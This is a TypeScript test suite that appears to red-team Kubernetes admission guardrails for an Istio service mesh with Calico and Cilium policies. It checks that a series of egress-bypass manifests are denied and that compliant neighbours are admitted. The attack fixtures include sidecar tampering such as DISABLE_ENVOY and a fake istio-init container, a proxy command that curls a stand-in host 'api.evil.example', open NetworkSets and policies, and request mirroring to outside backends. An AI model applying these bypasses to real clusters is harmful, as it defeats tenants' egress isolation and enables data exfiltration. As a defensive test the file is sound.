import { strict as assert } from "assert";
import type { KubernetesObject } from "../../components/kubernetes-object";
import { object, POD_KINDS, PROXY_IMAGE, TENANT } from "../support/admission-guardrail-cases";
import {
  grantPlatformAdmin,
  grantTenantAdmin,
  kubectlAs,
  PLATFORM_USER,
  TENANT_USER,
} from "../support/envtest/identities";
import { applyStrict, ensurePreexistingNamespaces, uninstall } from "../support/envtest/server-side-apply";
import { describeWithApiServer } from "../support/envtest/shared-api-server";
import { installStandInCrds, removeStandInCrds } from "../support/envtest/stand-in-crds";
import {
  assertAdmitted,
  assertDeniedBy,
  prodRenderForGuardrails,
} from "../support/envtest/guardrail-verdicts";

/**
 * A red team's second pass over the prod guardrails: shapes the first table did not list, each admitted before its
 * fix (the commit that added it says what Istio, the CNI plugin or Calico/Cilium does with it), beside the compliant
 * neighbour that must stay admitted. Sent as the tenant (admin in its namespace, by impersonation).
 */

interface Attack {
  readonly guardrail: string;
  readonly weakening: string;
  readonly denied: KubernetesObject;
}
interface Neighbour {
  readonly neighbour: string;
  readonly admitted: KubernetesObject;
}

const APP = { name: "app", image: "registry.example/app:1" };
const STATUS =
  '{"initContainers":["istio-validation"],"containers":["istio-proxy"],"volumes":[],"revision":"default"}';
const PROXY_SECURITY = {
  allowPrivilegeEscalation: false,
  privileged: false,
  capabilities: { drop: ["ALL"] },
  readOnlyRootFilesystem: true,
  runAsGroup: 1337,
  runAsUser: 1337,
  runAsNonRoot: true,
};

/** A pod as Istio 1.30.3's injector leaves it with Istio CNI (sidecar or native sidecar), then changed by `change`. */
function injectedPod(
  change: (
    spec: Record<string, any>,
    proxy: Record<string, any>,
    validation: Record<string, any>,
  ) => void = () => undefined,
  native = false,
): KubernetesObject {
  const validation: Record<string, any> = {
    name: "istio-validation",
    image: PROXY_IMAGE,
    args: [
      "istio-iptables",
      "-p",
      "15001",
      "-z",
      "15006",
      "-u",
      "1337",
      "-m",
      "REDIRECT",
      "-i",
      "*",
      "-x",
      "",
      "-b",
      "*",
      "-d",
      "15090,15021,15020",
      "--log_output_level=default:info",
      "--run-validation",
      "--skip-rule-apply",
    ],
    securityContext: { ...PROXY_SECURITY },
  };
  const proxy: Record<string, any> = {
    name: "istio-proxy",
    image: PROXY_IMAGE,
    ...(native ? { restartPolicy: "Always" } : {}),
    args: ["proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local", "--proxyLogLevel=warning"],
    env: [
      { name: "PILOT_CERT_PROVIDER", value: "istiod" },
      { name: "CA_ADDR", value: "istiod.istio-system.svc:15012" },
      { name: "ISTIO_META_APP_CONTAINERS", value: "app" },
    ],
    ports: [{ containerPort: 15090, protocol: "TCP", name: "http-envoy-prom" }],
    securityContext: { ...PROXY_SECURITY },
  };
  const spec: Record<string, any> = {
    initContainers: native ? [validation, proxy] : [validation],
    containers: native ? [{ ...APP }] : [{ ...APP }, proxy],
    volumes: [{ name: "istio-envoy", emptyDir: { medium: "Memory" } }],
  };
  change(spec, proxy, validation);
  return POD_KINDS[0]!.wrap(
    {
      labels: {
        app: "app",
        "security.istio.io/tlsMode": "istio",
        "service.istio.io/canonical-name": "app",
        "service.istio.io/canonical-revision": "latest",
      },
      annotations: {
        "istio.io/rev": "default",
        "kubectl.kubernetes.io/default-container": "app",
        "kubectl.kubernetes.io/default-logs-container": "app",
        "sidecar.istio.io/status": STATUS,
        "sidecar.istio.io/interceptionMode": "REDIRECT",
        "traffic.sidecar.istio.io/includeOutboundIPRanges": "*",
        "traffic.sidecar.istio.io/includeInboundPorts": "*",
        "traffic.sidecar.istio.io/excludeInboundPorts": "15020",
      },
    },
    spec,
  );
}

const virtualService = (gateways: string[]) =>
  object("networking.istio.io/v1", "VirtualService", TENANT, "extra", {
    spec: {
      hosts: ["api.stripe.com"],
      gateways,
      exportTo: ["."],
      http: [{ route: [{ destination: { host: "ledger.payments.svc.cluster.local" } }] }],
    },
  });

const HOSTNAME_BACKEND = {
  group: "networking.istio.io",
  kind: "Hostname",
  name: "api.evil.example",
  port: 443,
};
const httpRoute = (ruleFilters: object[], backendFilters: object[] = []) =>
  object("gateway.networking.k8s.io/v1", "HTTPRoute", TENANT, "r", {
    spec: {
      parentRefs: [{ name: "ingress" }],
      rules: [
        {
          ...(ruleFilters.length ? { filters: ruleFilters } : {}),
          backendRefs: [
            { name: "ledger", port: 8080, ...(backendFilters.length ? { filters: backendFilters } : {}) },
          ],
        },
      ],
    },
  });

const ATTACKS: readonly Attack[] = [
  // The CNI plugin (cni/pkg/plugin) skips a pod holding a container named istio-init; the injector never writes one with CNI.
  {
    guardrail: "tenant-pod-security",
    weakening:
      "an injected pod that also holds an istio-init init container running the proxy image (Istio CNI then skips the pod)",
    denied: injectedPod((spec) =>
      spec.initContainers.unshift({ name: "istio-init", image: PROXY_IMAGE, command: ["true"] }),
    ),
  },
  // The CNI plugin exempts the UID and GID the istio-proxy container runs as, whatever they are.
  {
    guardrail: "tenant-pod-security",
    weakening:
      "an injected pod whose istio-proxy and app both run as UID and GID 1000 (the CNI plugin exempts the proxy's UID)",
    denied: injectedPod((spec, proxy) => {
      proxy.securityContext = { ...proxy.securityContext, runAsUser: 1000, runAsGroup: 1000 };
      spec.containers[0].securityContext = { runAsUser: 1000, runAsGroup: 1000 };
    }),
  },
  // DISABLE_ENVOY on istio-proxy: the CNI plugin leaves the pod uncaptured and the agent starts no Envoy.
  {
    guardrail: "tenant-pod-security",
    weakening: "an injected pod whose istio-proxy sets DISABLE_ENVOY=true (the CNI plugin skips the pod)",
    denied: injectedPod((_spec, proxy) => proxy.env.push({ name: "DISABLE_ENVOY", value: "true" })),
  },
  // args "proxy router": the CNI plugin skips every proxy type but sidecar.
  {
    guardrail: "tenant-pod-security",
    weakening: "an injected pod whose istio-proxy runs as a router (the CNI plugin skips the pod)",
    denied: injectedPod((_spec, proxy) => (proxy.args = ["proxy", "router"])),
  },
  {
    guardrail: "tenant-pod-security",
    weakening: "an injected pod whose istio-proxy runs a command of the tenant's as UID 1337 (uncaptured)",
    denied: injectedPod((_spec, proxy) => (proxy.command = ["sh", "-c", "curl https://api.evil.example"])),
  },
  {
    guardrail: "tenant-pod-security",
    weakening:
      "an injected pod whose istio-validation runs a command of the tenant's (the capture goes unchecked)",
    denied: injectedPod((_spec, _proxy, validation) => (validation.command = ["true"])),
  },
  // A ProxyConfig's environmentVariables become the proxy's env (ProxyMetadata): what proxy.istio.io/config may not set.
  {
    guardrail: "tenant-proxy-config",
    weakening:
      "a ProxyConfig setting the proxy's environment (ISTIO_DUAL_STACK=false leaves IPv6 uncaptured)",
    denied: object("networking.istio.io/v1beta1", "ProxyConfig", TENANT, "extra", {
      spec: { environmentVariables: { ISTIO_DUAL_STACK: "false" } },
    }),
  },
  {
    guardrail: "tenant-proxy-config",
    weakening: "a ProxyConfig handing every proxy of the namespace DISABLE_ENVOY",
    denied: object("networking.istio.io/v1beta1", "ProxyConfig", TENANT, "extra", {
      spec: { environmentVariables: { DISABLE_ENVOY: "true" } },
    }),
  },
  // Calico selectors match NetworkSets of the policy's namespace: a tenant NetworkSet of public nets is an allow-list.
  {
    guardrail: "tenant-cni-policies",
    weakening: "a Calico NetworkSet of public nets (an Allow to its selector reaches them)",
    denied: object("crd.projectcalico.org/v1", "NetworkSet", TENANT, "internet", {
      metadata: { name: "internet", namespace: TENANT, labels: { role: "db" } },
      spec: { nets: ["0.0.0.0/0"] },
    }),
  },
  {
    guardrail: "tenant-cni-policies",
    weakening: "a Calico NetworkPolicy allowing the cluster's GlobalNetworkSets (namespaceSelector global())",
    denied: object("crd.projectcalico.org/v1", "NetworkPolicy", TENANT, "extra", {
      spec: {
        selector: "all()",
        types: ["Egress"],
        egress: [{ action: "Allow", destination: { namespaceSelector: "global()", selector: "all()" } }],
      },
    }),
  },
  // Felix lowercases the action; an empty one is not a Deny, and the v3 API requires one.
  {
    guardrail: "tenant-cni-policies",
    weakening: "a Calico NetworkPolicy rule without an action, to a public net",
    denied: object("crd.projectcalico.org/v1", "NetworkPolicy", TENANT, "extra", {
      spec: { selector: "all()", types: ["Egress"], egress: [{ destination: { nets: ["0.0.0.0/0"] } }] },
    }),
  },
  // Cilium adds no namespace to a selector on reserved: labels, so reserved:world is the internet.
  {
    guardrail: "tenant-cni-policies",
    weakening: "a CiliumNetworkPolicy toEndpoints selecting reserved:world",
    denied: object("cilium.io/v2", "CiliumNetworkPolicy", TENANT, "extra", {
      spec: { endpointSelector: {}, egress: [{ toEndpoints: [{ matchLabels: { "reserved:world": "" } }] }] },
    }),
  },
  {
    guardrail: "tenant-cni-policies",
    weakening:
      "a CiliumNetworkPolicy rule with an in-cluster peer plus toGroups (cloud security groups: public addresses)",
    denied: object("cilium.io/v2", "CiliumNetworkPolicy", TENANT, "extra", {
      spec: {
        endpointSelector: {},
        egress: [{ toEndpoints: [{}], toGroups: [{ aws: { securityGroupsIds: ["sg-0123"] } }] }],
      },
    }),
  },
  // Istio resolves a gateway name without '/' but with dots as the legacy FQDN <name>.<namespace>.svc.cluster.local.
  ...["stripe.istio-egress.svc.cluster.local", "stripe.istio-egress"].map((gateway) => ({
    guardrail: "tenant-virtual-service-gateways",
    weakening: `a VirtualService bound to the egress gateway's Gateway by the legacy name ${gateway}`,
    denied: virtualService([gateway]),
  })),
  // A requestMirror filter's backendRef is a destination too: Istio mirrors every request to it.
  {
    guardrail: "tenant-gateway-api",
    weakening: "an HTTPRoute mirroring every request to a Hostname backend",
    denied: httpRoute([{ type: "RequestMirror", requestMirror: { backendRef: HOSTNAME_BACKEND } }]),
  },
  {
    guardrail: "tenant-gateway-api",
    weakening: "an HTTPRoute whose backendRef mirrors to a Service in the gateway namespace",
    denied: httpRoute(
      [],
      [
        {
          type: "RequestMirror",
          requestMirror: {
            backendRef: { name: "istio-egressgateway", namespace: "istio-egress", port: 443 },
          },
        },
      ],
    ),
  },
];

const NEIGHBOURS: readonly Neighbour[] = [
  {
    neighbour:
      "a pod as the injector leaves it with Istio CNI (istio-validation, istio-proxy as 1337, its env and args)",
    admitted: injectedPod(),
  },
  {
    neighbour:
      "a pod as the injector leaves it with Istio CNI and native sidecars (istio-proxy an init container, restartPolicy Always)",
    admitted: injectedPod(undefined, true),
  },
  {
    neighbour: "an injected pod whose app runs as UID 1000",
    admitted: injectedPod(
      (spec) => (spec.containers[0].securityContext = { runAsUser: 1000, runAsGroup: 1000 }),
    ),
  },
  {
    neighbour: "a ProxyConfig setting concurrency for the tenant's workloads",
    admitted: object("networking.istio.io/v1beta1", "ProxyConfig", TENANT, "extra", {
      spec: { selector: { matchLabels: { app: "ledger" } }, concurrency: 2 },
    }),
  },
  {
    neighbour: "a Calico NetworkSet of private nets",
    admitted: object("crd.projectcalico.org/v1", "NetworkSet", TENANT, "db", {
      spec: { nets: ["10.20.0.0/16"] },
    }),
  },
  {
    neighbour: "a Calico NetworkPolicy allowing a selector in its own namespace",
    admitted: object("crd.projectcalico.org/v1", "NetworkPolicy", TENANT, "extra", {
      spec: {
        selector: "all()",
        types: ["Egress"],
        egress: [{ action: "Allow", destination: { selector: "role == 'db'" } }],
      },
    }),
  },
  {
    neighbour: "a CiliumNetworkPolicy to endpoints of its own namespace by label",
    admitted: object("cilium.io/v2", "CiliumNetworkPolicy", TENANT, "extra", {
      spec: { endpointSelector: {}, egress: [{ toEndpoints: [{ matchLabels: { app: "db" } }] }] },
    }),
  },
  {
    neighbour: "a VirtualService bound to its own Gateway by the legacy name edge.payments.svc.cluster.local",
    admitted: virtualService(["mesh", "edge.payments.svc.cluster.local"]),
  },
  {
    neighbour: "an HTTPRoute mirroring to a Service of its own namespace",
    admitted: httpRoute([
      { type: "RequestMirror", requestMirror: { backendRef: { name: "ledger-shadow", port: 8080 } } },
    ]),
  },
];

/** A schema-less stand-in for Calico's namespaced NetworkSet (labelled so removeStandInCrds deletes it too). */
const NETWORK_SET_CRD = {
  apiVersion: "apiextensions.k8s.io/v1",
  kind: "CustomResourceDefinition",
  metadata: {
    name: "networksets.crd.projectcalico.org",
    labels: { "mesh-egress.io/envtest-stand-in": "true" },
  },
  spec: {
    group: "crd.projectcalico.org",
    names: { kind: "NetworkSet", plural: "networksets", singular: "networkset", listKind: "NetworkSetList" },
    scope: "Namespaced",
    versions: [
      {
        name: "v1",
        served: true,
        storage: true,
        schema: { openAPIV3Schema: { type: "object", "x-kubernetes-preserve-unknown-fields": true } },
      },
    ],
  },
};

const SSA_DRY_RUN = ["apply", "--server-side", "--field-manager=tenant", "--dry-run=server", "-f", "-"];

describeWithApiServer(
  "guardrail attacks on the prod render, as a tenant with admin in its namespace",
  (server) => {
    let documents: KubernetesObject[];
    const tenant = (args: readonly string[], input?: string) => kubectlAs(server(), TENANT_USER, args, input);

    before(async function () {
      this.timeout(180_000);
      documents = prodRenderForGuardrails();
      await installStandInCrds(server());
      await server().kubectlOrThrow(
        ["apply", "--server-side", "--field-manager=envtest", "-f", "-"],
        JSON.stringify(NETWORK_SET_CRD),
      );
      await server().kubectlOrThrow([
        "wait",
        "--for=condition=Established",
        "crd/networksets.crd.projectcalico.org",
        "--timeout=60s",
      ]);
      await ensurePreexistingNamespaces(server(), documents);
      await applyStrict(server(), documents);
      await grantTenantAdmin(server(), TENANT, TENANT_USER);
      await grantPlatformAdmin(server(), PLATFORM_USER);
      // Bindings reach admission through an informer: wait until a known-hostile pod is refused.
      for (let attempt = 0; ; attempt++) {
        const probe = POD_KINDS[1]!.wrap({}, { containers: [{ ...APP }], hostNetwork: true });
        if (
          (await tenant(SSA_DRY_RUN, JSON.stringify(probe))).stderr.includes(
            "mesh-egress-tenant-pod-security",
          )
        )
          break;
        if (attempt > 40) throw new Error("the guardrails never took effect");
        await new Promise((resolve) => setTimeout(resolve, 250));
      }
    });
    after(async function () {
      this.timeout(120_000);
      await uninstall(server(), documents);
      await removeStandInCrds(server());
    });

    describe("on a running injected Pod", () => {
      before(async function () {
        this.timeout(60_000);
        assertAdmitted(
          await tenant(
            ["apply", "--server-side", "--field-manager=tenant", "-f", "-"],
            JSON.stringify(injectedPod()),
          ),
        );
      });
      after(async () => {
        await server().kubectl(["delete", "pod", "app", "-n", TENANT, "--wait=false"]);
      });

      // The proxy runs as UID 1337, which the capture lets out untouched: a shell in it reaches anything the L3 policy allows.
      for (const container of ["istio-proxy", "istio-validation"]) {
        it(`tenant-proxy-exec: denies the tenant a shell in the pod's ${container} container`, async () => {
          assertDeniedBy(
            await tenant(["exec", "app", "-n", TENANT, "-c", container, "--", "sh", "-c", "true"]),
            "tenant-proxy-exec",
          );
        });
      }
      it("admits a platform identity's exec into istio-proxy as far as admission", async () => {
        const result = await kubectlAs(server(), PLATFORM_USER, [
          "exec",
          "app",
          "-n",
          TENANT,
          "-c",
          "istio-proxy",
          "--",
          "true",
        ]);
        assert.doesNotMatch(result.stderr, /ValidatingAdmissionPolicy/, result.stderr);
        assert.match(result.stderr, /does not have a host assigned/, result.stderr);
      });
      it("admits the tenant's exec into its app container as far as admission (the pod has no node here)", async () => {
        const result = await tenant(["exec", "app", "-n", TENANT, "-c", "app", "--", "true"]);
        assert.doesNotMatch(result.stderr, /ValidatingAdmissionPolicy/, result.stderr);
        assert.match(result.stderr, /does not have a host assigned/, result.stderr);
      });
    });

    for (const attack of ATTACKS) {
      it(`${attack.guardrail}: denies ${attack.weakening}`, async () => {
        assertDeniedBy(await tenant(SSA_DRY_RUN, JSON.stringify(attack.denied)), attack.guardrail);
      });
    }
    for (const { neighbour, admitted } of NEIGHBOURS) {
      it(`admits ${neighbour}`, async () => {
        assertAdmitted(await tenant(SSA_DRY_RUN, JSON.stringify(admitted)));
      });
    }
  },
);
